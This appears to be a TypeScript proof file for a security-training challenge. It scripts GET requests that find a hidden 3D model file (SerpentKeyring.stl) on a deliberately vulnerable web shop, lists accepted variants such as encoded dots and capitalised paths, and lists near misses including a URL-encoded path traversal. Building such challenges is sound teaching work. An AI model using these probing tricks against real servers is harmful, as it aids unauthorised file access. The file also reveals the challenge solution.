import { type Attack, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const FOLDER = '/assets/public/images/products'

const get =
  (path: string): Attack =>
  (attacker) =>
    attacker.get(path)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.get('/rest/products/search?q=keyring')
    // Its metadata: made with OpenSCAD, described as SerpentKeyring.
    await attacker.get(`${FOLDER}/serpent-keyring.jpg`)
    await attacker.get(`${FOLDER}/SerpentKeyring.stl`)
  },
  spellings: {
    'at once': get(`${FOLDER}/SerpentKeyring.stl`),
    'with a question behind it': get(`${FOLDER}/SerpentKeyring.stl?download=1`),
    'with an encoded dot': get(`${FOLDER}/SerpentKeyring%2Estl`),
    'with the folder in capitals': get('/ASSETS/PUBLIC/IMAGES/PRODUCTS/SerpentKeyring.stl'),
    'signed in': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.get(`${FOLDER}/SerpentKeyring.stl`)
    },
  },
  nearMisses: {
    'the picture': get(`${FOLDER}/serpent-keyring.jpg`),
    'the product': get('/api/Products/26'),
    'the name of the picture with another ending': get(`${FOLDER}/serpent-keyring.stl`),
    'the source of the model': get(`${FOLDER}/SerpentKeyring.scad`),
    'the name without its ending': get(`${FOLDER}/SerpentKeyring`),
    'in small letters': get(`${FOLDER}/serpentkeyring.stl`),
    'one folder higher': get('/assets/public/images/SerpentKeyring.stl'),
    'in the public folder': get('/ftp/SerpentKeyring.stl'),
    'out of the folder and in again': get(`${FOLDER}/..%2Fproducts%2FSerpentKeyring.stl`),
  },
})
